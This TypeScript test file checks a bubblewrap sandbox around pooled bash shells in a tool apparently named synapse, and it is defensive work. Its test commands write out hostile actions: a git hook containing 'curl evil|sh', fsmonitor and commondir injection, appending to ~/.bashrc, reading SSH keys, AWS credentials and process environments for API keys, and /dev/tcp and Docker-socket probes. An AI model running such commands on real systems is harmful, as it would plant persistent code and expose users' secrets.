// Pooled shells inside bubblewrap, attacked from inside: what a command can no longer do (write
// outside the workspace, read credential stores or synapse's own files, reach the network, see
// synapse, read a key), and what must still work (pooled reuse, timeouts, interrupts and
// background jobs killed as wholes, checked in the host's process table).

import { afterEach, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { trustedBinary } from "../../src/runtime/trusted-path.ts";
import { INIT_SCRIPT } from "../../src/shell/shell-script.ts";
import { WATCHDOG_SCRIPT } from "../../src/shell/watchdog.ts";
import { survivors, until } from "../shell/support.ts";
import { sandboxPlan } from "../../src/sandbox/plan.ts";
import { sandboxState } from "../../src/sandbox/probe.ts";
import { createShellPool } from "../../src/shell/shell-pool.ts";
import { TEST_CONFIG } from "../shell/support.ts";
import { BASHRC, CANARY, HAVE_BWRAP, NEEDS_BWRAP, sandboxHarness, type SandboxHarness, testBase } from "./support.ts";

let h: SandboxHarness | undefined;
afterEach(async () => {
  await h?.cleanup();
  h = undefined;
});

const marker = () => `${Math.floor(Math.random() * 1e6) + 1000}.${Math.floor(Math.random() * 1000)}`;
const it = (name: string, fn: () => Promise<void>) => test.skipIf(!HAVE_BWRAP)(name + NEEDS_BWRAP, fn);

describe("what a sandboxed command cannot do", () => {
  it("write outside the workspace: ~/.bashrc, a sibling repository, /etc; the workspace and /tmp it can", async () => {
    h = await sandboxHarness();
    const scratch = `/tmp/synapse-scratch-${marker()}`;
    const r = await h.run(
      `echo pwned >> ~/.bashrc; echo pwned > ${h.sibling}/README; touch /etc/synapse-pwned; ` +
        `echo ok > inside.txt && echo ok > ${scratch} && cat inside.txt ${scratch}`,
    );
    expect(r.output).toContain("ok\nok\n");
    expect(readFileSync(join(h.home, ".bashrc"), "utf8")).toBe(BASHRC);
    expect(readFileSync(join(h.sibling, "README"), "utf8")).toBe(`${CANARY}\n`);
    expect(existsSync("/etc/synapse-pwned")).toBe(false);
    expect(readFileSync(join(h.ws, "inside.txt"), "utf8")).toBe("ok\n");
    // The sandbox's /tmp is its own.
    expect(existsSync(scratch)).toBe(false);
  });

  it("write the workspace's git hooks or git config (run later, outside the sandbox); git's other files it can", async () => {
    h = await sandboxHarness();
    const r = await h.run(
      "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core]fsmonitor=x' >> .git/config; touch .git/index && echo index",
    );
    expect(r.output).toContain("index\n");
    expect(existsSync(join(h.ws, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(h.ws, ".git/config"), "utf8")).toBe("[core]\n");
  });

  it("leave a .git/commondir (it sends the user's git to another folder's config): swept after each command", async () => {
    h = await sandboxHarness();
    const r = await h.run("d=.git; mkdir -p ../evil; echo ../evil > $d/commondir; echo written");
    expect(r.output).toContain("written");
    expect(r.notices).toEqual([
      `synapse removed ${join(h.ws, ".git/commondir")}, which a command wrote: it would send git to another ` +
        "folder's config and hooks, outside the sandbox.",
    ]);
    expect(existsSync(join(h.ws, ".git/commondir"))).toBe(false);
    // A background job that writes it once its command has returned: swept when the pool closes.
    const later = await h.run("(sleep 0.3; echo ../evil > .git/commondir) >/dev/null 2>&1 & echo started");
    expect(later.notices).toBeUndefined();
    expect(await until(() => existsSync(join(h!.ws, ".git/commondir")), 5000)).toBe(true);
    await h.pool.close();
    expect(existsSync(join(h.ws, ".git/commondir"))).toBe(false);
  });

  it("leave a .git/commondir in a repository a command made itself", async () => {
    h = await sandboxHarness();
    rmSync(join(h.ws, ".git"), { recursive: true });
    const r = await h.run("git init -q . && d=.git; echo ../evil > $d/commondir; echo made");
    expect(r.output).toContain("made");
    expect(r.notices).toHaveLength(1);
    expect(existsSync(join(h.ws, ".git/commondir"))).toBe(false);
  });

  it("read credential stores or synapse's own config, sessions and history, however named", async () => {
    h = await sandboxHarness();
    const d = ".ssh";
    const r = await h.run(
      `cat ~/${d}/id_rsa; cat ${h.home}/.aws/credentials; cat ~/.netrc; cat ${h.configDir}/config.json; ` +
        `cat ${h.dataDir}/history; ls -a ~/.ssh ${h.dataDir}; grep -r ${CANARY} ~ 2>/dev/null; echo done`,
    );
    expect(r.output).toContain("done\n");
    expect(r.output).not.toContain(CANARY);
  });

  it("reach the network: a listener on the host's 127.0.0.1 is out of reach", async () => {
    h = await sandboxHarness();
    await withListener(async (port, accepted) => {
      const r = await h!.run(`(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo connected || echo refused`);
      expect(r.output).toBe("refused\n");
      expect(accepted()).toBe(0);
    });
  });

  it("reach a daemon through a Unix socket (no network namespace covers those): Docker's in the home folder", async () => {
    h = await sandboxHarness();
    const sock = join(h.home, ".docker/run/docker.sock");
    let accepted = 0;
    const server = createServer((socket) => {
      accepted++;
      socket.end("HTTP/1.0 200 OK\r\n\r\nanswered");
    });
    await new Promise<void>((resolve) => server.listen(sock, resolve));
    try {
      const curl = trustedBinary("curl");
      // bash cannot open a Unix socket; curl can, where there is one.
      const probe = curl
        ? `${curl} -s -m 5 --unix-socket ${sock} http://x/; echo`
        : `test -S ${sock} && echo socket || echo none`;
      const r = await h.run(probe);
      expect(r.output).not.toContain(curl ? "answered" : "socket");
      expect(accepted).toBe(0);
    } finally {
      // Not awaited: Bun's close waits on the connection an unprotected run would have made.
      server.close();
    }
  });

  it("plant the ripgrep synapse runs unconfined, even when the workspace is the home folder", async () => {
    const dir = realpathSync(mkdtempSync(join(testBase(), "synapse-sandbox-cache-")));
    const cacheDir = join(dir, ".cache", "synapse");
    const state = await sandboxState({
      mode: "workspace-write",
      network: false,
      bwrapPath: process.env.SYNAPSE_BWRAP || undefined,
    });
    const config = { ...TEST_CONFIG, env: { PATH: "/usr/bin:/bin", HOME: dir } };
    const plan = sandboxPlan(
      { cwd: dir, addDirs: [], home: join(dir, "data"), configDir: join(dir, "cfg"), cacheDir, shell: config },
      state,
      dir,
    );
    const pool = createShellPool(config, plan);
    try {
      const r = await pool.run({
        command: `echo planted > ${cacheDir}/rg-0123; echo done`,
        cwd: dir,
        taskId: "main",
        timeoutMs: 10_000,
      });
      expect(r.output).toContain("done");
      expect(existsSync(join(cacheDir, "rg-0123"))).toBe(false);
    } finally {
      await pool.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("rewrite the pool's own scripts: the watchdog runs outside the sandbox, the init script in every new shell", async () => {
    h = await sandboxHarness();
    const r = await h.run(
      'd=${__sy_r%/*}; echo "$d"; for f in watchdog.sh init.sh; do echo "touch /tmp/pwned" >> "$d/$f"; done',
    );
    const dir = r.output.split("\n")[0]!;
    expect(dir).toStartWith("/");
    expect(readFileSync(join(dir, "watchdog.sh"), "utf8")).toBe(WATCHDOG_SCRIPT);
    expect(readFileSync(join(dir, "init.sh"), "utf8")).toBe(INIT_SCRIPT);
  });

  it("see synapse: its processes are not in /proc, and there is no terminal to write to or type into", async () => {
    h = await sandboxHarness();
    const self = readFileSync("/proc/self/cmdline", "latin1").replaceAll("\0", " ").trim();
    const r = await h.run(
      "cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; (exec 3</dev/tty) 2>/dev/null && echo tty || echo no-tty",
    );
    expect(r.output).toContain("no-tty\n");
    expect(r.output).not.toContain(self);
    expect(r.output).not.toContain("sandboxed-shell.test.ts");
  });

  it("read a key or token from its environment: only allow-listed names get in", async () => {
    h = await sandboxHarness();
    const r = await h.run("env; cat /proc/1/environ /proc/$$/environ | tr '\\0' '\\n'; echo HOME=$HOME");
    expect(r.output).not.toContain(CANARY);
    expect(r.output).not.toContain("CLOUD_TOKEN");
    expect(r.output).not.toContain("ANTHROPIC_API_KEY");
    expect(r.output).toContain(`HOME=${h.home}\n`);
  });

  it("write the workspace in read-only mode", async () => {
    h = await sandboxHarness({ mode: "read-only" });
    const r = await h.run("pwd; ls -a .git; touch inside.txt; echo > /tmp/x && echo tmp-ok");
    // The workspace is there to read (it lies under the host's /tmp, hidden by the private one).
    expect(r.output).toStartWith(`${h.ws}\n.\n..\nconfig\nhooks\n`);
    expect(r.output).toContain("Read-only file system");
    expect(r.output).toContain("tmp-ok\n");
    expect(existsSync(join(h.ws, "inside.txt"))).toBe(false);
  });
});

describe("what still works inside", () => {
  it("--sandbox-network: the host's loopback is reachable", async () => {
    h = await sandboxHarness({ network: true });
    await withListener(async (port) => {
      const r = await h!.run(`(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo connected || echo refused`);
      expect(r.output).toBe("connected\n");
    });
  });

  it("pooled reuse: one shell, state kept from command to command", async () => {
    h = await sandboxHarness();
    expect((await h.run("x=42; cd sub 2>/dev/null; echo $$")).output).toBe("3\n");
    expect((await h.run("echo $x")).output).toBe("42\n");
    expect(h.pool.stats()).toMatchObject({ shells_spawned: 1, shells_reused: 1, commands_run: 2 });
  });

  it("a credential store removed mid-session does not stop the next shell from starting", async () => {
    h = await sandboxHarness();
    expect((await h.run("echo first")).output).toBe("first\n");
    rmSync(join(h.home, ".aws"), { recursive: true });
    // The first shell is busy: the pool starts a second one, with a profile read again.
    const busy = h.run("sleep 0.5; echo busy");
    expect((await h.run("echo second")).output).toBe("second\n");
    expect((await busy).output).toBe("busy\n");
    expect(h.pool.stats().shells_spawned).toBe(2);
  });

  it("a timeout kills the command's whole tree; the next command runs", async () => {
    h = await sandboxHarness();
    const m = marker();
    const r = await h.run(`sh -c 'sleep ${m} & sleep ${m}'; echo never`, { timeoutMs: 300 });
    expect(r).toMatchObject({ timedOut: true, output: "" });
    expect(await until(() => survivors(m).length === 0)).toBe(true);
    expect((await h.run("echo next")).output).toBe("next\n");
  });

  it("an interrupt kills the command's whole tree and keeps the output so far", async () => {
    h = await sandboxHarness();
    const m = marker();
    const ac = new AbortController();
    const r = await h.run(`echo started; sh -c 'sleep ${m}' & sleep ${m}`, {
      signal: ac.signal,
      onOutput: (text) => text.includes("started") && ac.abort(),
    });
    expect(r).toMatchObject({ interrupted: true, output: "started\n" });
    // The `&` job belongs to this command's line but is a background job: it lives until close.
    await h.cleanup();
    h = undefined;
    expect(await until(() => survivors(m).length === 0)).toBe(true);
  });

  it("a background job outlives a later command's timeout and the shell's exit, and ends with the pool", async () => {
    h = await sandboxHarness({}, { idleMax: 0, idleMs: 0 });
    const job = marker();
    const m = marker();
    await h.run(`sleep ${job} &`);
    expect((await h.run(`sleep ${m}`, { timeoutMs: 300 })).timedOut).toBe(true);
    expect(survivors(m)).toEqual([]);
    // `exit` ends the shell while its job runs: the pool learns it, and the job lives on.
    const gone = await h.run(`sleep ${job} & exit 3`);
    expect(gone.exitCode).toBe(3);
    expect((await h.run("echo fresh")).output).toBe("fresh\n");
    expect(survivors(job).length).toBe(2);
    await h.cleanup();
    h = undefined;
    expect(await until(() => survivors(job).length === 0)).toBe(true);
  });

  it("a shell replaced for moving too often carries its exported state over inside the sandbox", async () => {
    h = await sandboxHarness({}, { maxCd: 1, poolMax: 1 });
    const src = join(h.ws, "src");
    await h.run(`mkdir -p ${src}; export VIRTUAL_ENV=/venv; greet() { echo hi; }; true`);
    for (const cwd of [src, h.ws]) await h.run("true", { cwd });
    expect(h.pool.stats().shells_retired).toBe(1);
    expect((await h.run('echo "$VIRTUAL_ENV"; greet')).output).toBe("/venv\nhi\n");
  });

  it("a daemon that left the shell's session (setsid) still ends with the pool", async () => {
    h = await sandboxHarness();
    const m = marker();
    await h.run(`setsid sleep ${m} >/dev/null 2>&1 < /dev/null & disown; echo ok`);
    expect(await until(() => survivors(m).length === 1)).toBe(true);
    await h.cleanup();
    h = undefined;
    expect(await until(() => survivors(m).length === 0)).toBe(true);
  });

  it("killAllNow leaves no sandboxed process behind", async () => {
    h = await sandboxHarness();
    const m = marker();
    await h.run(`sleep ${m} &`);
    const running = h.run(`sleep ${m}`);
    expect(await until(() => survivors(m).length === 2)).toBe(true);
    h.pool.killAllNow();
    await running;
    expect(await until(() => survivors(m).length === 0 && survivors(h!.ws).length === 0)).toBe(true);
  });
});

async function withListener(fn: (port: number, accepted: () => number) => Promise<void>): Promise<void> {
  let count = 0;
  const server: Server = createServer((socket) => {
    count++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    await fn((server.address() as { port: number }).port, () => count);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}
